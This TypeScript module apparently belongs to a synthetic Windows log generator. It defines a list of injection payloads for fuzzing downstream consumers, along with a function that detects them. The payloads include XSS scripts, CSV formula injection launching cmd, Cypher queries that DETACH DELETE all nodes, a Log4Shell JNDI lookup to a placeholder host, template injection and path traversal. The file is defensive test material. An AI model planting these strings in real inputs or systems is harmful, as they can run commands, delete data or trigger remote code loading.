/**
 * Payloads for the `hostile` option: names that are still plausible Windows strings (printable,
 * no backslash, no control characters, unique ignoring case) but break code that splices log
 * text into HTML, CSV, Cypher, templates, object keys or message formatting.
 */
export type HostileCategory = 'html' | 'csv' | 'cypher' | 'other';

export interface HostilePayload {
  category: HostileCategory;
  value: string;
}

const payload = (category: HostileCategory, ...values: string[]): HostilePayload[] => values.map((value) => ({ category, value }));

export const HOSTILE_PAYLOADS: readonly HostilePayload[] = [
  ...payload('html', '<script>alert(1)</script>', '<img src=x onerror=alert(1)>', '"><svg onload=alert(1)>', "'><b>bold</b>", 'javascript:alert(1)'),
  ...payload('csv', "=cmd|' /C calc'!A0", '+SUM(1+1)*cmd|x!A0', '@SUM(1+1)', '-2+3+cmd|y!A0', '=HYPERLINK("http://x.invalid/","y")'),
  ...payload('cypher', "'}) DETACH DELETE n //", '"}) MATCH (n) DETACH DELETE n //', "x' OR 1=1 //", "o'brien"),
  ...payload(
    'other',
    '__proto__',
    'constructor',
    '${jndi:ldap://x.invalid/a}',
    '{{7*7}}',
    '%%1833',
    '%s%n%x',
    '../../etc/passwd',
    'rtl\u202Eexe.txt',
    'zero\u200Bwidth',
    'emoji\u{1F600}',
    '&amp;&lt;x&gt;',
    'CON',
    'long' + 'x'.repeat(200),
  ),
];

/** A domain's NetBIOS and DNS names when `hostile` is set and no domain was given. */
export const HOSTILE_DOMAIN = { netbios: "CORP'}) DETACH DELETE n //", fqdn: '<svg onload=alert(1)>.corp.local' } as const;

/** The attacker's own machine when `hostile` is set (it names itself in WorkstationName). */
export const HOSTILE_ROGUE = '<marquee>pwn</marquee>';

/** Whether a string holds any of the payloads (or the hostile domain names). */
export function containsHostile(text: string): HostileCategory[] {
  const found = new Set<HostileCategory>();
  for (const p of HOSTILE_PAYLOADS) if (text.includes(p.value)) found.add(p.category);
  if (text.includes(HOSTILE_DOMAIN.netbios)) found.add('cypher');
  if (text.includes(HOSTILE_DOMAIN.fqdn)) found.add('html');
  return [...found];
}
